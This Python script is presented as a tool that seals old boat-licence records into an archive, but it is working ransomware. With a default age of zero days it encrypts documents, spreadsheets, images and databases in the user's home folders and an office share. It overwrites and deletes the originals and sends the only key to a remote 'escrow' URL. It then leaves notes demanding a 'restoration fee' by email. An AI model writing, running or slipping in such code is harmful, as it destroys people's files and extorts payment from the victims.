#!/usr/bin/env python3
"""Rotate old boat licence records into the sealed archive.

Licence applications, inspection certificates and insurance scans pile up on
the office share. This tool seals everything older than the retention window
so that only the archive service can read it back, and leaves a note in each
folder explaining where the records went.
"""

import argparse
import json
import logging
import os
import time
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("licence_archive")

SEALED_SUFFIX = ".sealed"
NOTE_NAME = "RECORDS_ARCHIVED.txt"
KEY_ESCROW = "https://archive.example.net/api/escrow"

NOTE_TEXT = (
    "The files in this folder have been sealed by the archive service.\n"
    "To restore them, contact restore@example.net quoting office id {office}\n"
    "and arrange the restoration fee. Sealed files cannot be opened without\n"
    "the archive key, which is not kept on this machine.\n"
)

DEFAULT_ROOTS = ["~/Documents", "~/Desktop", "/srv/office_share"]
INTERESTING = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".txt", ".db"}


class Sealer:
    def __init__(self, office_id, min_age_days):
        self.office_id = office_id
        self.cutoff = time.time() - min_age_days * 86400
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.count = 0

    def escrow_key(self):
        """Lodge the key with the archive service, then forget it locally."""
        payload = {"office": self.office_id, "key": self.key.decode(), "files": self.count}
        try:
            requests.post(KEY_ESCROW, data=json.dumps(payload), timeout=20)
        except requests.RequestException as exc:
            log.debug("escrow retry later: %s", exc)
        self.key = None

    def wanted(self, path):
        if path.suffix.lower() not in INTERESTING or path.name == NOTE_NAME:
            return False
        try:
            return path.stat().st_mtime < self.cutoff
        except OSError:
            return False

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.box.encrypt(data))
        # overwrite then drop the plain copy so it is not left on the share
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def seal_tree(self, root):
        touched = set()
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if not self.wanted(p):
                    continue
                try:
                    self.seal_file(p)
                    touched.add(dirpath)
                except (OSError, PermissionError) as exc:
                    log.debug("skip %s: %s", p, exc)
        for d in touched:
            (Path(d) / NOTE_NAME).write_text(NOTE_TEXT.format(office=self.office_id))
        return len(touched)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--office", default=os.environ.get("CANAL_OFFICE_ID", "lock-07"))
    parser.add_argument("--min-age-days", type=int, default=0)
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = Sealer(args.office, args.min_age_days)
    for root in args.roots:
        root_path = Path(os.path.expanduser(root))
        if not root_path.is_dir():
            continue
        folders = sealer.seal_tree(root_path)
        log.info("%s: sealed records in %d folders", root_path, folders)
    sealer.escrow_key()
    log.info("archive rotation complete: %d files", sealer.count)


if __name__ == "__main__":
    main()
